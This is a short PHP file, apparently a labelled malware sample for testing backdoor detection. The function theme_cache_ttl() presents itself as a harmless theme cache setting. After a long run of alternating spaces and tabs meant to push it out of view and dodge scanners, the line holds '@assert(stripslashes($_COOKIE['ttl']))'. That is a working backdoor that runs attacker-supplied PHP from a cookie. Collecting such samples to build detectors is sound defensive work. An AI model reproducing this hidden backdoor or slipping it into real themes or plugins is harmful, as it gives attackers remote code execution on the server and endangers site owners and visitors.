<?php
/*
 * Family: backdoor/injected-line
 * Style: code pushed far right on a line of spaces and tabs in turn
 * Trait: the padding alternates space and tab, so it holds neither 8 spaces
 * nor 4 tabs in a row; an assert over a cookie sits after it
 */
function theme_cache_ttl() {
	$ttl = 3600; 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	 	@assert(stripslashes($_COOKIE['ttl']));
	return $ttl;
}
